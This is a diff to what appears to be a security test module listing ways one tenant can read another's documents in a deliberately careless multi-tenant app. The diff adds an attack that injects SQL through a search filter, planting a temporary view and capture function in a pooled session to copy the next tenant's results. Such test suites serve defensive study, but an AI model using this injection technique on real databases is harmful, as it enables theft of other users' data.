@@ -1,4 +1,4 @@
-"""Seven ways to read another tenant's documents through an application, and a table of which succeed."""
+"""Eight ways to read another tenant's documents through an application, and a table of which succeed."""
 
 from __future__ import annotations
 
@@ -45,6 +45,22 @@ def role_reset(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
     return app.search(mine, query, where)
 
 
+def view_left_behind(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
+    """Leave a view of the table's name in the session: it keeps what the next tenant's search reads."""
+    table = f'public."{app.table}"'
+    plant = f"""true; CREATE TEMP TABLE kept (LIKE {table});
+        CREATE FUNCTION pg_temp.keep({table}) RETURNS boolean LANGUAGE sql AS
+            $$ INSERT INTO pg_temp.kept SELECT ($1).* RETURNING true $$;
+        CREATE TEMP VIEW "{app.table}" AS SELECT * FROM {table} AS one WHERE pg_temp.keep(one);
+        SELECT id, tenant, text FROM {table} WHERE true"""
+    try:
+        app.search(mine, query, plant)
+        app.search(other, query)  # an honest search, on the same connection of the pool
+        return app.search(mine, query, "true; SELECT id, tenant, text FROM pg_temp.kept WHERE true")
+    finally:
+        app.connection.execute("DISCARD TEMP")  # for the attacks that follow
+
+
 def shared_answer(app: CarelessApp, mine: str, other: str, query: Floats) -> list:
     """Ask what another tenant has just asked."""
     app.answer(other, "What is in our contract?", query)
@@ -58,6 +74,7 @@ ATTACKS: Mapping[str, Attack] = {
     "tenant in the filter": tenant_in_filter,
     "setting overwritten": tenant_set,
     "role reset": role_reset,
+    "view left behind": view_left_behind,
     "answer from the cache": shared_answer,
 }
 
